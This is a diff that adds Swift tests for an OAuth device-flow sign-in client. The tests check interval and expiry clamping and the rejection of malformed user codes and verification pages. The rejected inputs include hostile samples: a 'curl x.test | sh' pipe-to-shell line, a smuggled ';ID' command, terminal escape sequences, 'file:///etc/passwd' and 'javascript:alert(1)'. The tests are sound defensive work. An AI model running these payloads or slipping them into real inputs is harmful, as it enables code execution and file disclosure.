@@ -29,6 +29,15 @@ struct DeviceFlowTests {
         server.on("/login/oauth/access_token") { _ in bodies[min(count.next(), bodies.count - 1)] }
     }
 
+    /// What a code is asked for with.
+    private func start(_ numbers: String) {
+        server.on(
+            "/login/device/code",
+            .json(
+                #"{"device_code": "d", "user_code": "ABCD-1234", "#
+                    + #""verification_uri": "https://github.com/login/device", \#(numbers)}"#))
+    }
+
     private func signIn() async throws -> Token { try await flow.token(for: flow.start()) }
 
     @Test("W2: asks for a code with the scope gist, then for the token until it was typed")
@@ -57,6 +66,68 @@ struct DeviceFlowTests {
             #"{"error": "authorization_pending"}"#, #"{"access_token": "gho_1"}"#)
         _ = try await signIn()
         #expect(clock.sleeps == [5, 10, 15, 15].map { .seconds($0) })
+    }
+
+    @Test(
+        "W2: whatever interval a server names, it is asked once a second at most and once a minute at least",
+        arguments: [
+            ("0", 1), ("-5", 1), ("1", 1), ("0.001", 1), ("2.5", 2.5), ("60", 60), ("61", 60), ("86400", 60),
+            ("9223372036854775807", 60), ("1e300", 60), ("-1e300", 1), ("\"0\"", 5), ("null", 5), ("[0]", 5),
+        ])
+    func intervals(named: String, seconds: Double) async throws {
+        start(#""interval": \#(named)"#)
+        answer(#"{"error": "authorization_pending"}"#, #"{"access_token": "gho_1"}"#)
+        _ = try await signIn()
+        #expect(clock.sleeps == [.seconds(seconds), .seconds(seconds)])
+    }
+
+    @Test(
+        "W2: slow_down always adds five seconds, whatever number comes with it",
+        arguments: ["0", "-1", "1", "1e9", "\"x\""])
+    func slowDownNumbers(_ named: String) async throws {
+        start(#""interval": 0"#)
+        answer(
+            #"{"error": "slow_down", "interval": \#(named)}"#, #"{"error": "slow_down"}"#, #"{"access_token": "gho_1"}"#
+        )
+        _ = try await signIn()
+        #expect(clock.sleeps == (named == "1e9" ? [1, 60, 65] : [1, 6, 11]).map { .seconds($0) })
+    }
+
+    @Test(
+        "W2: whatever life a server gives a code, the wait for it ends within a day",
+        arguments: [("0", 1), ("-1", 1), ("1e300", 1_440), ("9223372036854775807", 1_440), ("\"x\"", 15), ("null", 15)])
+    func lives(named: String, sleeps: Int) async throws {
+        start(#""expires_in": \#(named), "interval": 60"#)
+        answer(#"{"error": "authorization_pending"}"#)
+        await #expect(throws: DeviceFlowError.expired) { try await signIn() }
+        #expect(clock.sleeps.count == sleeps)
+    }
+
+    @Test(
+        "W2: a code to type is letters, digits and hyphens, and nothing else is shown or copied",
+        arguments: [
+            "curl x.test | sh\\n", "abcd-1234", "ABC", "ABCDEFGHIJKLMNOPQRSTU", "AB CD", "ÀBCD", "ABCD\\u001b[2J", "",
+            "ABCD\\u0301", "ＡＢＣＤ", "ABCD;ID",
+        ])
+    func badCodes(_ code: String) async {
+        server.on(
+            "/login/device/code",
+            .json(
+                #"{"device_code": "d", "user_code": "\#(code)", "verification_uri": "https://github.com/login/device"}"#
+            ))
+        await #expect(throws: DeviceFlowError.unexpected("")) { try await flow.start() }
+    }
+
+    @Test(
+        "W2: the page is one of the web, or the flow ends",
+        arguments: [
+            "file:///etc/passwd", "javascript:alert(1)", "https://x.test/\\u001b[2J", "", "https://x.test/a b", "-x",
+        ])
+    func badPages(_ page: String) async {
+        server.on(
+            "/login/device/code",
+            .json(#"{"device_code": "d", "user_code": "ABCD-1234", "verification_uri": "\#(page)"}"#))
+        await #expect(throws: DeviceFlowError.unexpected("")) { try await flow.start() }
     }
 
     @Test(
